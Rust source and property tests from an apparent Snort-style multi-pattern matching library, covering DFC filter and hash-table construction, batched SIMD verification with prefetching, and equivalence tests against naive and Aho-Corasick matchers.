            "candidate rate on random input too high: {rate}"
        );
        assert_eq!(dfc.find_all(&hay), naive_find_all(&set, &hay));
    }

    #[test]
    fn nocase_patterns_match_case_variants_exactly() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"CmD.exe"),
            Pattern::literal(*b"cmd.exe"),
            Pattern::literal_nocase(*b"ab"),
            Pattern::literal_nocase(*b"x"),
            Pattern::literal_nocase(*b"GeT"),
        ]);
        let dfc = Dfc::build(&set);
        assert!(dfc.tables().is_folded());
        let hay = b"CMD.EXE cmd.exe AB aB X x GET get gEt";
        assert_eq!(dfc.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn case_sensitive_only_sets_stay_byte_exact() {
        let set = PatternSet::from_literals(&["attack", "AbCd"]);
        let dfc = Dfc::build(&set);
        assert!(!dfc.tables().is_folded());
        let hay = b"ATTACK abcd AbCd attack";
        assert_eq!(dfc.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn stats_report_scanned_bytes_and_matches() {
        let set = PatternSet::from_literals(&["needle"]);
        let dfc = Dfc::build(&set);
        let hay = b"hay needle hay needle";
        let stats = dfc.scan_with_stats(hay);
        assert_eq!(stats.bytes_scanned, hay.len() as u64);
        assert_eq!(stats.matches, 2);
    }

    #[test]
    fn synthetic_ruleset_equivalence() {
        let rs = SyntheticRuleset::generate(RulesetSpec::tiny(200, 33));
        let set = rs.http();
        let dfc = Dfc::build(&set);
        // Compose an input embedding some of the patterns.
        let mut hay = b"GET /index.php?id=1 HTTP/1.1\r\nHost: example\r\n\r\n".to_vec();
        for (_, p) in set.iter().take(30) {
            hay.extend_from_slice(p.bytes());
            hay.extend_from_slice(b" <=> ");
        }
        assert_eq!(dfc.find_all(&hay), naive_find_all(&set, &hay));
    }
}
