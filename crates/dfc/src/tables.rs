//! The filter and hash-table structures DFC builds from a pattern set,
//! shared by the scalar and vectorized execution engines.

use mpm_patterns::{MatchEvent, PatternSet};
use mpm_simd::VectorBackend;
use mpm_verify::{CompactHashTable, DirectFilter};
use std::cell::RefCell;

/// How many initial-filter survivors the DFC engines buffer before draining
/// them through the batched verification path (one block per length-class
/// table keeps the candidate positions and the per-table pipeline state hot).
pub const DRAIN_BLOCK: usize = 256;

thread_local! {
    /// Per-thread `(pending, long_scratch)` drain buffers reused across
    /// scans, so the block-drained engines stay allocation-free per scan —
    /// streaming callers invoke `find_into` once per pushed chunk/packet
    /// (mirrors the cached scratch in `mpm-vpatch`). Both buffers are
    /// bounded by [`DRAIN_BLOCK`] (+ one vector width of compress_store
    /// spare), so no shrink policy is needed.
    static DRAIN_BUFFERS: RefCell<(Vec<u32>, Vec<u32>)> =
        const { RefCell::new((Vec::new(), Vec::new())) };
}

/// Runs `f` with this thread's cached drain buffers, cleared on entry
/// (a transient pair is allocated only in the re-entrant case, which the
/// engines never hit themselves).
pub(crate) fn with_drain_buffers<R>(f: impl FnOnce(&mut Vec<u32>, &mut Vec<u32>) -> R) -> R {
    DRAIN_BUFFERS.with(|cell| match cell.try_borrow_mut() {
        Ok(mut buffers) => {
            let (pending, long_scratch) = &mut *buffers;
            pending.clear();
            long_scratch.clear();
            f(pending, long_scratch)
        }
        Err(_) => f(&mut Vec::new(), &mut Vec::new()),
    })
}

/// All compiled state of a DFC instance.
#[derive(Clone, Debug)]
pub struct DfcTables {
    /// Initial direct filter over the first two bytes of every pattern
    /// (1-byte patterns set every window starting with their byte).
    pub(crate) df_initial: DirectFilter,
    /// Progressive filter for the long (≥ 4 byte) class, indexed by pattern
    /// bytes 2–3 — consulted with input bytes `i+2 .. i+4` after the initial
    /// filter hits at `i`.
    pub(crate) df_long: DirectFilter,
    /// Compact hash tables per length class.
    pub(crate) ht_len1: CompactHashTable,
    pub(crate) ht_len2: CompactHashTable,
    pub(crate) ht_len3: CompactHashTable,
    pub(crate) ht_long: CompactHashTable,
    /// Length of the longest pattern (useful for chunked/streaming callers
    /// that must overlap chunks by `max_pattern_len - 1`).
    pub max_pattern_len: usize,
    /// True if the set contains a `nocase` pattern: every filter and hash
    /// table is built over ASCII-case-folded bytes and the scan loops fold
    /// input windows to match (filter-folded / verify-exact). False keeps
    /// the byte-exact fast path.
    pub(crate) folded: bool,
    pattern_count: usize,
}

impl DfcTables {
    /// Compiles the DFC structures for `set`.
    pub fn build(set: &PatternSet) -> Self {
        let folded = set.has_nocase();
        let fold = |b: u8| mpm_patterns::fold_byte(b, folded);
        let df_initial = DirectFilter::build_with_fold(set, folded, |_| true);

        // Progressive filter for long patterns: indexed by bytes 2..4.
        let mut df_long = DirectFilter::new();
        for (_, p) in set.iter() {
            if p.len() >= 4 {
                let b = p.bytes();
                df_long.set(u16::from_le_bytes([fold(b[2]), fold(b[3])]));
            }
        }

        let ht_len1 = CompactHashTable::build_with_fold(set, 1, 8, folded, |p| p.len() == 1);
        let ht_len2 = CompactHashTable::build_with_fold(set, 2, 16, folded, |p| p.len() == 2);
        let ht_len3 = CompactHashTable::build_with_fold(set, 3, 13, folded, |p| p.len() == 3);
        let ht_long = CompactHashTable::build_with_fold(set, 4, 16, folded, |p| p.len() >= 4);
        let max_pattern_len = set.patterns().iter().map(|p| p.len()).max().unwrap_or(0);

        DfcTables {
            df_initial,
            df_long,
            ht_len1,
            ht_len2,
            ht_len3,
            ht_long,
            max_pattern_len,
            folded,
            pattern_count: set.len(),
        }
    }

    /// True if the tables were built over ASCII-case-folded bytes (the set
    /// contains a `nocase` pattern); the scan loops fold input to match.
    pub fn is_folded(&self) -> bool {
        self.folded
    }

    /// Number of patterns the tables were built from.
    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }

    /// Total resident size of the *filtering* structures (the part the paper
    /// argues stays in L1/L2).
    pub fn filter_bytes(&self) -> usize {
        self.df_initial.heap_bytes() + self.df_long.heap_bytes()
    }

    /// Total resident size of the verification hash tables (expected to live
    /// in L3 — or device memory on Xeon-Phi, see Figure 7 discussion).
    pub fn table_bytes(&self) -> usize {
        self.ht_len1.heap_bytes()
            + self.ht_len2.heap_bytes()
            + self.ht_len3.heap_bytes()
            + self.ht_long.heap_bytes()
    }

    /// Runs the classification + verification stage for a position `i` whose
    /// window passed the initial filter. Appends confirmed matches to `out`
    /// and returns the number of pattern comparisons performed.
    ///
    /// This is the historical **per-candidate** path: the engines now drain
    /// buffered candidate blocks through
    /// [`DfcTables::classify_and_verify_batch`] instead, but this form is
    /// kept public as the reference semantics the batched drain is held to
    /// (`tests/verify_batch_differential.rs`) and for per-position callers
    /// like the cache simulator's access replay.
    #[inline]
    pub fn classify_and_verify(
        &self,
        haystack: &[u8],
        i: usize,
        out: &mut Vec<MatchEvent>,
    ) -> usize {
        let mut comparisons = 0;
        if !self.ht_len1.is_empty() {
            comparisons += self.ht_len1.verify_at(haystack, i, out);
        }
        if !self.ht_len2.is_empty() {
            comparisons += self.ht_len2.verify_at(haystack, i, out);
        }
        if !self.ht_len3.is_empty() {
            comparisons += self.ht_len3.verify_at(haystack, i, out);
        }
        if !self.ht_long.is_empty() && i + 4 <= haystack.len() {
            let w2 = u16::from_le_bytes([
                mpm_patterns::fold_byte(haystack[i + 2], self.folded),
                mpm_patterns::fold_byte(haystack[i + 3], self.folded),
            ]);
            if self.df_long.contains(w2) {
                comparisons += self.ht_long.verify_at(haystack, i, out);
            }
        }
        comparisons
    }

    /// Batched form of [`DfcTables::classify_and_verify`]: drains a whole
    /// block of initial-filter survivors through every length-class table's
    /// [`CompactHashTable::verify_batch`] (SIMD bucket indexing + K-deep
    /// prefetch pipeline + vector compares) instead of one interleaved
    /// classification per candidate. The long class is still gated per
    /// candidate by the progressive filter `df_long` — a cheap L1-resident
    /// bitmap test — with the survivors collected into `long_scratch` and
    /// batch-verified in one go. Semantically identical to calling
    /// `classify_and_verify` per position in order, modulo the append order
    /// of matches (grouped by length class instead of by position), which no
    /// caller observes ([`mpm_patterns::Matcher::find_into`] output order is
    /// unspecified).
    ///
    /// Returns the number of pattern comparisons performed.
    pub fn classify_and_verify_batch<B: VectorBackend<W>, const W: usize>(
        &self,
        haystack: &[u8],
        positions: &[u32],
        long_scratch: &mut Vec<u32>,
        out: &mut Vec<MatchEvent>,
    ) -> u64 {
        let mut comparisons = 0u64;
        if !self.ht_len1.is_empty() {
            comparisons += self.ht_len1.verify_batch::<B, W>(haystack, positions, out);
        }
        if !self.ht_len2.is_empty() {
            comparisons += self.ht_len2.verify_batch::<B, W>(haystack, positions, out);
        }
        if !self.ht_len3.is_empty() {
            comparisons += self.ht_len3.verify_batch::<B, W>(haystack, positions, out);
        }
        if !self.ht_long.is_empty() {
            long_scratch.clear();
            for &p in positions {
                let i = p as usize;
                if i + 4 <= haystack.len() {
                    let w2 = u16::from_le_bytes([
                        mpm_patterns::fold_byte(haystack[i + 2], self.folded),
                        mpm_patterns::fold_byte(haystack[i + 3], self.folded),
                    ]);
                    if self.df_long.contains(w2) {
                        long_scratch.push(p);
                    }
                }
            }
            comparisons += self
                .ht_long
                .verify_batch::<B, W>(haystack, long_scratch, out);
        }
        comparisons
    }

    /// Handles the final input position, which has no 2-byte window: only
    /// 1-byte patterns can start there.
    #[inline]
    pub(crate) fn verify_tail(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        if !haystack.is_empty() && !self.ht_len1.is_empty() {
            self.ht_len1.verify_at(haystack, haystack.len() - 1, out);
        }
    }

    /// Prime hook for the scan graph's overlapped schedule: touches the
    /// hash-table bucket rows the first `limit` pending candidates will
    /// load, so the drain that runs alongside the next chunk's filter pass
    /// starts with warm lines instead of a cold dependent-load chain.
    #[inline]
    pub(crate) fn prefetch_pending(&self, haystack: &[u8], pending: &[u32], limit: usize) {
        for ht in [&self.ht_len1, &self.ht_len2, &self.ht_len3, &self.ht_long] {
            ht.prefetch_candidates(haystack, pending, limit);
        }
    }

    /// The initial direct filter (exposed for the vectorized engine and for
    /// the cache simulator).
    pub fn initial_filter(&self) -> &DirectFilter {
        &self.df_initial
    }

    /// The long-class compact hash table (exposed for the cache simulator's
    /// verification-access model).
    pub fn long_table(&self) -> &CompactHashTable {
        &self.ht_long
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::PatternSet;

    #[test]
    fn filter_sizes_are_cache_resident_and_tables_are_not_tiny() {
        let lits: Vec<String> = (0..3_000)
            .map(|i| format!("pattern-string-number-{i:05}-with-some-length"))
            .collect();
        let set = PatternSet::from_literals(&lits);
        let t = DfcTables::build(&set);
        assert!(t.filter_bytes() < 32 * 1024, "filters must fit in L1");
        assert!(
            t.table_bytes() > 100 * 1024,
            "hash tables for 3k long patterns should be much larger than the filters"
        );
        assert_eq!(t.pattern_count(), 3_000);
    }

    #[test]
    fn classify_and_verify_finds_all_length_classes() {
        let set = PatternSet::from_literals(&["a", "bc", "def", "ghij", "klmnop"]);
        let t = DfcTables::build(&set);
        let hay = b"a bc def ghij klmnop";
        let mut out = Vec::new();
        for i in 0..hay.len().saturating_sub(1) {
            let w = u16::from_le_bytes([hay[i], hay[i + 1]]);
            if t.df_initial.contains(w) {
                t.classify_and_verify(hay, i, &mut out);
            }
        }
        t.verify_tail(hay, &mut out);
        mpm_patterns::matcher::normalize_matches(&mut out);
        assert_eq!(out, mpm_patterns::naive::naive_find_all(&set, hay));
    }

    #[test]
    fn drain_buffers_are_cached_cleared_and_reentrancy_safe() {
        let cap = with_drain_buffers(|pending, _| {
            pending.reserve(128);
            pending.push(7);
            pending.capacity()
        });
        with_drain_buffers(|pending, long_scratch| {
            // Cleared on entry, capacity persisted from the previous scan.
            assert!(pending.is_empty());
            assert!(long_scratch.is_empty());
            assert!(pending.capacity() >= cap.min(128));
            // A nested borrow must not panic; it falls back to transients.
            let nested_empty = with_drain_buffers(|p, l| p.is_empty() && l.is_empty());
            assert!(nested_empty);
        });
    }

    #[test]
    fn tail_handles_one_byte_pattern_at_last_position() {
        let set = PatternSet::from_literals(&["x"]);
        let t = DfcTables::build(&set);
        let mut out = Vec::new();
        t.verify_tail(b"zzzx", &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].start, 3);
    }
}
