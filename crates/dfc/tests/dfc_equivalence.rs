//! Equivalence property tests: DFC and Vector-DFC produce exactly the
//! Aho-Corasick / naive match set on arbitrary inputs.

use mpm_aho_corasick::DfaMatcher;
use mpm_dfc::{Dfc, VectorDfc};
use mpm_patterns::{naive::naive_find_all, Matcher, Pattern, PatternSet};
use mpm_simd::ScalarBackend;
use proptest::prelude::*;

fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'b'),
            Just(b'G'),
            Just(b'E'),
            Just(b'T'),
            any::<u8>()
        ],
        1..max_len,
    )
}

fn pattern_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec(bytes_strategy(10), 1..15)
        .prop_map(|ps| PatternSet::new(ps.into_iter().map(Pattern::literal).collect()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn dfc_equals_naive_and_ac(set in pattern_set_strategy(), hay in bytes_strategy(400)) {
        let expected = naive_find_all(&set, &hay);
        let dfc = Dfc::build(&set);
        prop_assert_eq!(dfc.find_all(&hay), expected.clone());
        let ac = DfaMatcher::build(&set);
        prop_assert_eq!(ac.find_all(&hay), expected);
    }

    #[test]
    fn vector_dfc_equals_naive(set in pattern_set_strategy(), hay in bytes_strategy(400)) {
        let expected = naive_find_all(&set, &hay);
        let v8 = VectorDfc::<ScalarBackend, 8>::build(&set);
        prop_assert_eq!(v8.find_all(&hay), expected.clone());
        let v16 = VectorDfc::<ScalarBackend, 16>::build(&set);
        prop_assert_eq!(v16.find_all(&hay), expected);
    }

    #[test]
    fn hardware_backends_equal_naive(set in pattern_set_strategy(), hay in bytes_strategy(300)) {
        let expected = naive_find_all(&set, &hay);
        if <mpm_simd::Avx2Backend as mpm_simd::VectorBackend<8>>::is_available() {
            let v = VectorDfc::<mpm_simd::Avx2Backend, 8>::build(&set);
            prop_assert_eq!(v.find_all(&hay), expected.clone());
        }
        if <mpm_simd::Avx512Backend as mpm_simd::VectorBackend<16>>::is_available() {
            let v = VectorDfc::<mpm_simd::Avx512Backend, 16>::build(&set);
            prop_assert_eq!(v.find_all(&hay), expected);
        }
    }
}
