//! DFC-style compact hash tables and the exact-verification phase shared by
//! the DFC, S-PATCH and V-PATCH engines.
//!
//! In the filtering family of algorithms (paper §II-B and §IV), the filters
//! only *suspect* a match; the candidate position is then looked up in a
//! **compact hash table** holding references to the full patterns, and each
//! referenced pattern is compared byte-for-byte against the input before a
//! match is reported. This crate implements:
//!
//! * [`CompactHashTable`] — a bucketised table of pattern references indexed
//!   by a fixed-length prefix of the input window (direct-indexed for 1–2
//!   byte prefixes, multiplicative-hash-indexed for 4-byte prefixes), with
//!   the patterns stored contiguously in an arena as in the original DFC
//!   implementation;
//! * [`Verifier`] — the two-table arrangement S-PATCH/V-PATCH use: one table
//!   for short patterns (1–3 bytes, reached through filter 1) and one for
//!   long patterns (≥ 4 bytes, reached through filters 2+3);
//! * [`hash32`] — the multiplicative hash family used both here and by the
//!   third filter of S-PATCH.
//!
//! Equivalence guarantee: for any candidate position, verification reports
//! exactly the patterns that occur at that position under their own case
//! rule — byte-exactly, or ASCII-case-insensitively for `nocase` patterns —
//! never more (false positives are eliminated by the per-pattern comparison)
//! and never fewer (every pattern of the table's length class is reachable
//! through its index prefix). Tables built in **folded** mode (the engines
//! do this whenever the set contains a `nocase` pattern) compute their
//! bucket index over ASCII-case-folded bytes, both at build time and at
//! lookup time, so one index serves mixed case-sensitive/`nocase` sets; the
//! per-entry comparison then restores each pattern's exact semantics. The
//! engines' overall exactness then only depends on their filters never
//! dropping a true candidate, which the engine crates test.

#![warn(missing_docs)]

pub mod confirm;
pub mod filters;

pub use confirm::{PayloadIndex, RuleConfirmer, RuleScanner};
pub use filters::{
    direct_filter_bits_for, direct_filter_window_count, DirectFilter, HashedFilter,
    MergedDirectFilters, DIRECT_FILTER_FULL_BITS, DIRECT_FILTER_MIN_BITS, FILTER_PADDING,
};

use mpm_patterns::{MatchEvent, PatternArena, PatternId, PatternSet};
use mpm_simd::{prefetch_read, VectorBackend, GATHER_PADDING};
use std::sync::Arc;

/// Prefetch distance `K` of the batched verification pipeline: the
/// `bucket_starts` slot of candidate `i + K` is prefetched while candidate
/// `i` is being verified, the entry row at `i + K/2` (its bucket offset is
/// cached by then) and the pattern-arena line at `i + 2` (its entry row is
/// cached by then). Eight candidates ahead covers a memory-latency's worth
/// of verification work for typical bucket sizes without evicting lines
/// before use; see DEVELOPMENT.md for the contract.
pub const PREFETCH_DISTANCE: usize = 8;

/// Prefetch distance of the entry-row stage (reads `bucket_starts`, which
/// the [`PREFETCH_DISTANCE`] stage requested earlier).
const ENTRY_PREFETCH_DISTANCE: usize = PREFETCH_DISTANCE / 2;

/// Prefetch distance of the arena stage (reads the first entry of the
/// bucket, which the entry stage requested earlier).
const ARENA_PREFETCH_DISTANCE: usize = 2;

/// Candidates per index-computation block of the batched verifier: bucket
/// indices for a whole block are computed SIMD-first into a stack buffer,
/// then drained through the prefetch pipeline. 128 keeps the buffer well
/// inside one page while amortising the pipeline prologue.
const BATCH_BLOCK: usize = 128;

/// Bucket sentinel for candidates whose index window does not fit in the
/// haystack (they verify nothing, exactly like [`CompactHashTable::verify_at`]).
const SKIP_BUCKET: u32 = u32::MAX;

/// The multiplier of the multiplicative hash family used by the third filter
/// and the verification tables (2^32 / φ, the usual Fibonacci-hash constant).
/// Exposed so the vectorized engines can compute the identical hash with
/// SIMD multiplies.
pub const HASH_MULTIPLIER: u32 = 0x9E37_79B1;

/// Multiplicative (Fibonacci) hash of a 32-bit value, returning `bits` bits.
///
/// This is the "multiplicative hash function for the four bytes of input"
/// the paper uses to index its third filter; the verification tables use the
/// same family so the two stay consistent.
#[inline]
pub fn hash32(value: u32, bits: u32) -> u32 {
    debug_assert!(bits > 0 && bits <= 32);
    value.wrapping_mul(HASH_MULTIPLIER) >> (32 - bits)
}

/// One pattern reference inside a bucket: where the pattern's bytes live in
/// the arena, which pattern id to report, and how to compare it against the
/// input (byte-exact vs ASCII-case-insensitive).
#[derive(Clone, Copy, Debug)]
struct Entry {
    offset: u32,
    len: u32,
    id: PatternId,
    nocase: bool,
}

/// Where a table's pattern bytes live: a private buffer the table owns, or
/// a reference-counted slice of a [`PatternArena`] shared with other tables
/// (the port-group build). Shared storage reports **zero** resident bytes —
/// the owner of the group collection counts the arena's bytes exactly once
/// (see DEVELOPMENT.md "Port groups & shared arenas").
#[derive(Clone, Debug)]
enum ArenaStorage {
    Owned(Vec<u8>),
    Shared(Arc<[u8]>),
}

impl ArenaStorage {
    /// The pattern bytes, wherever they live.
    #[inline]
    fn bytes(&self) -> &[u8] {
        match self {
            ArenaStorage::Owned(v) => v,
            ArenaStorage::Shared(a) => a,
        }
    }

    /// Bytes this table is *charged* for: owned buffers in full, shared
    /// arenas zero (counted once by the collection owner).
    fn resident_bytes(&self) -> usize {
        match self {
            ArenaStorage::Owned(v) => v.len(),
            ArenaStorage::Shared(_) => 0,
        }
    }
}

/// Bucket-bits sizing for hashed-prefix tables built per port group: about
/// two entries per bucket on average (`ceil_log2(entries) + 1`), clamped to
/// `[6, 16]`. A monolithic 30K-pattern set still gets its 2^16 buckets, but
/// a 40-rule port group gets 2^6 — 256 bytes of bucket offsets instead of
/// 256 KiB — which is what keeps per-group fixed overhead from multiplying
/// by the group count.
pub fn bucket_bits_for_entries(entries: usize) -> u32 {
    let ceil_log2 = usize::BITS - entries.max(1).next_power_of_two().leading_zeros() - 1;
    (ceil_log2 + 1).clamp(6, 16)
}

/// A compact, prefix-indexed table of pattern references with an arena of
/// pattern bytes, as used by DFC's verification phase.
#[derive(Clone, Debug)]
pub struct CompactHashTable {
    /// Number of bytes of the input window used to compute the bucket index.
    prefix_len: usize,
    /// log2 of the number of buckets.
    bucket_bits: u32,
    /// True if the bucket index is computed over ASCII-case-folded bytes
    /// (both at build time and at lookup time). Required whenever the table
    /// holds a `nocase` pattern.
    folded: bool,
    /// Bucket start offsets into `entries` (length = buckets + 1), CSR-style
    /// so lookups touch one contiguous slice.
    bucket_starts: Vec<u32>,
    entries: Vec<Entry>,
    /// All pattern bytes — owned and concatenated, or a shared arena slice.
    arena: ArenaStorage,
    /// Smallest pattern length stored (for the caller's bookkeeping).
    min_pattern_len: usize,
}

impl CompactHashTable {
    /// Builds a table over the patterns of `set` selected by `select`
    /// (typically a length-class predicate).
    ///
    /// `prefix_len` must be 1, 2, 3 or 4 and no selected pattern may be
    /// shorter than `prefix_len` (the index is taken from the pattern's first
    /// `prefix_len` bytes). `bucket_bits` controls the table size
    /// (`2^bucket_bits` buckets); for `prefix_len <= 2` the table is
    /// direct-indexed and `bucket_bits` is forced to `8 * prefix_len`.
    pub fn build<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        prefix_len: usize,
        bucket_bits: u32,
        select: F,
    ) -> Self {
        Self::build_with_fold(set, prefix_len, bucket_bits, false, select)
    }

    /// Builds a table whose bucket index is computed over
    /// **ASCII-case-folded** bytes when `folded` is true — required whenever
    /// the selection contains `nocase` patterns, so that a case-variant
    /// input window still reaches the bucket holding the pattern.
    /// [`CompactHashTable::verify_at`] folds the input window the same way;
    /// the per-entry comparison stays byte-exact for case-sensitive patterns
    /// and case-insensitive for `nocase` ones, so folding never introduces
    /// false matches.
    ///
    /// # Panics
    /// Panics if a selected pattern is `nocase` while `folded` is false:
    /// such a table would silently match the pattern case-sensitively.
    pub fn build_with_fold<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        prefix_len: usize,
        bucket_bits: u32,
        folded: bool,
        select: F,
    ) -> Self {
        Self::build_inner(set, prefix_len, bucket_bits, folded, select, None)
    }

    /// Builds a table whose pattern bytes are **offset references into a
    /// shared [`PatternArena`]** instead of a privately owned buffer — the
    /// port-group build, where many per-group tables would otherwise each
    /// copy the same `content:` bytes. Every selected pattern must already
    /// be interned in `arena` (the two-pass protocol: intern everything,
    /// freeze, then build tables).
    ///
    /// The table holds a clone of the arena's `Arc` and reports zero arena
    /// bytes in [`CompactHashTable::heap_bytes`]; the owner of the group
    /// collection counts the arena once. Lookup semantics are bit-identical
    /// to the owned build.
    ///
    /// # Panics
    /// Panics if a selected pattern was never interned (a build-order bug),
    /// plus everything [`CompactHashTable::build_with_fold`] panics on.
    pub fn build_shared_with_fold<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        prefix_len: usize,
        bucket_bits: u32,
        folded: bool,
        select: F,
        arena: &PatternArena,
    ) -> Self {
        Self::build_inner(set, prefix_len, bucket_bits, folded, select, Some(arena))
    }

    fn build_inner<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        prefix_len: usize,
        bucket_bits: u32,
        folded: bool,
        select: F,
        shared: Option<&PatternArena>,
    ) -> Self {
        assert!((1..=4).contains(&prefix_len), "prefix_len must be 1..=4");
        let bucket_bits = if prefix_len <= 2 {
            (prefix_len as u32) * 8
        } else {
            bucket_bits
        };
        assert!(
            bucket_bits <= 24,
            "bucket_bits too large for a compact table"
        );
        let buckets = 1usize << bucket_bits;

        // First pass: count bucket sizes.
        let mut selected: Vec<(PatternId, &mpm_patterns::Pattern)> = Vec::new();
        for (id, p) in set.iter() {
            if select(p) {
                assert!(
                    p.len() >= prefix_len,
                    "pattern {id} (len {}) shorter than table prefix {prefix_len}",
                    p.len()
                );
                assert!(
                    folded || !p.is_nocase(),
                    "nocase pattern {id} requires a folded table \
                     (build_with_fold(.., folded: true, ..))"
                );
                selected.push((id, p));
            }
        }
        let mut counts = vec![0u32; buckets];
        for (_, p) in &selected {
            counts[Self::index_of(p.bytes(), prefix_len, bucket_bits, folded) as usize] += 1;
        }
        let mut bucket_starts = vec![0u32; buckets + 1];
        for i in 0..buckets {
            bucket_starts[i + 1] = bucket_starts[i] + counts[i];
        }

        // Second pass: fill entries and the arena.
        let total: usize = selected.len();
        let mut entries = vec![
            Entry {
                offset: 0,
                len: 0,
                id: PatternId(0),
                nocase: false,
            };
            total
        ];
        let mut cursor = bucket_starts.clone();
        let mut owned = match shared {
            Some(_) => Vec::new(),
            None => Vec::with_capacity(selected.iter().map(|(_, p)| p.len()).sum()),
        };
        let mut min_pattern_len = usize::MAX;
        for (id, p) in &selected {
            let bucket = Self::index_of(p.bytes(), prefix_len, bucket_bits, folded) as usize;
            let slot = cursor[bucket] as usize;
            cursor[bucket] += 1;
            let offset = match shared {
                Some(arena) => arena
                    .offset_of(p.bytes())
                    .expect("pattern not interned in the shared arena before table build"),
                None => {
                    let offset = owned.len() as u32;
                    owned.extend_from_slice(p.bytes());
                    offset
                }
            };
            entries[slot] = Entry {
                offset,
                len: p.len() as u32,
                id: *id,
                nocase: p.is_nocase(),
            };
            min_pattern_len = min_pattern_len.min(p.len());
        }
        if selected.is_empty() {
            min_pattern_len = 0;
        }

        CompactHashTable {
            prefix_len,
            bucket_bits,
            folded,
            bucket_starts,
            entries,
            arena: match shared {
                Some(arena) => ArenaStorage::Shared(arena.bytes().clone()),
                None => ArenaStorage::Owned(owned),
            },
            min_pattern_len,
        }
    }

    /// Bucket index for a window starting with `bytes` (at least
    /// `prefix_len` bytes), over ASCII-case-folded bytes when `folded`.
    #[inline]
    fn index_of(bytes: &[u8], prefix_len: usize, bucket_bits: u32, folded: bool) -> u32 {
        use mpm_patterns::fold_byte as fold;
        match prefix_len {
            1 => fold(bytes[0], folded) as u32,
            2 => u16::from_le_bytes([fold(bytes[0], folded), fold(bytes[1], folded)]) as u32,
            3 => {
                let v = u32::from_le_bytes([
                    fold(bytes[0], folded),
                    fold(bytes[1], folded),
                    fold(bytes[2], folded),
                    0,
                ]);
                hash32(v, bucket_bits)
            }
            4 => {
                let v = u32::from_le_bytes([
                    fold(bytes[0], folded),
                    fold(bytes[1], folded),
                    fold(bytes[2], folded),
                    fold(bytes[3], folded),
                ]);
                hash32(v, bucket_bits)
            }
            _ => unreachable!("prefix_len validated at construction"),
        }
    }

    /// Number of patterns stored in the table.
    pub fn pattern_count(&self) -> usize {
        self.entries.len()
    }

    /// True if the table holds no patterns.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Smallest pattern length stored (0 if empty).
    pub fn min_pattern_len(&self) -> usize {
        self.min_pattern_len
    }

    /// Resident size of the table in bytes. Tables built over a shared
    /// arena ([`CompactHashTable::build_shared_with_fold`]) do **not**
    /// count the arena here — the owner of the group collection counts it
    /// exactly once.
    pub fn heap_bytes(&self) -> usize {
        self.bucket_starts.len() * 4
            + self.entries.len() * std::mem::size_of::<Entry>()
            + self.arena.resident_bytes()
    }

    /// True if the pattern bytes live in a shared [`PatternArena`] rather
    /// than a buffer this table owns.
    pub fn uses_shared_arena(&self) -> bool {
        matches!(self.arena, ArenaStorage::Shared(_))
    }

    /// log2 of the number of buckets.
    pub fn bucket_bits(&self) -> u32 {
        self.bucket_bits
    }

    /// Verifies the candidate position `pos` in `haystack`: every pattern in
    /// the bucket selected by the window at `pos` is compared against the
    /// input — byte-exactly, or ASCII-case-insensitively for `nocase`
    /// entries — and confirmed matches are appended to `out`.
    ///
    /// Returns the number of pattern comparisons performed (used by the
    /// instrumentation and the cache model).
    #[inline]
    pub fn verify_at(&self, haystack: &[u8], pos: usize, out: &mut Vec<MatchEvent>) -> usize {
        if self.entries.is_empty() || pos + self.prefix_len > haystack.len() {
            return 0;
        }
        let bucket = Self::index_of(
            &haystack[pos..],
            self.prefix_len,
            self.bucket_bits,
            self.folded,
        ) as usize;
        let start = self.bucket_starts[bucket] as usize;
        let end = self.bucket_starts[bucket + 1] as usize;
        let arena = self.arena.bytes();
        let mut comparisons = 0;
        for entry in &self.entries[start..end] {
            let len = entry.len as usize;
            if pos + len > haystack.len() {
                // Skipped by the bounds check: no pattern bytes were compared,
                // so nothing is counted (candidates near the end of the buffer
                // must not inflate the comparison statistics).
                continue;
            }
            comparisons += 1;
            let pattern = &arena[entry.offset as usize..entry.offset as usize + len];
            let window = &haystack[pos..pos + len];
            let hit = if entry.nocase {
                window.eq_ignore_ascii_case(pattern)
            } else {
                window == pattern
            };
            if hit {
                out.push(MatchEvent::new(pos, entry.id));
            }
        }
        comparisons
    }

    /// **Batched, software-pipelined verification** of a whole candidate
    /// array: semantically identical to calling
    /// [`CompactHashTable::verify_at`] for every position in order (same
    /// matches, same append order, same comparison count — property-tested
    /// in `tests/verify_batch_differential.rs`), but scheduled for the
    /// memory system instead of one dependent-load chain per candidate:
    ///
    /// 1. **SIMD index computation** — the positions (already `u32`, exactly
    ///    as `compress_store` emitted them) are fed back through the
    ///    backend's registers: one [`VectorBackend::gather_u32`] re-reads all
    ///    `W` candidate windows from the haystack, [`VectorBackend::to_ascii_lower`]
    ///    folds them when the table is folded, and
    ///    [`VectorBackend::hash_mul_shift`] computes the bucket indices —
    ///    `W` candidates per iteration, no scalar byte assembly.
    /// 2. **K-deep prefetch pipeline** — while candidate `i` is verified,
    ///    the `bucket_starts` slot of candidate `i + K`, the entry row of
    ///    candidate `i + K/2` and the arena line of candidate `i + 2` are
    ///    prefetched ([`PREFETCH_DISTANCE`]), so the three dependent loads
    ///    of each lookup overlap the compares of earlier candidates.
    /// 3. **Vector compares** — each surviving entry is compared with
    ///    [`VectorBackend::eq_window`] / [`VectorBackend::eq_window_nocase`]
    ///    instead of the byte loop.
    ///
    /// Candidates whose 4-byte gather window would cross the end of the
    /// haystack are detoured through the scalar index computation (and a
    /// candidate whose *prefix* does not fit verifies nothing), so the
    /// batch path is total over arbitrary position arrays.
    ///
    /// Returns the number of pattern comparisons performed.
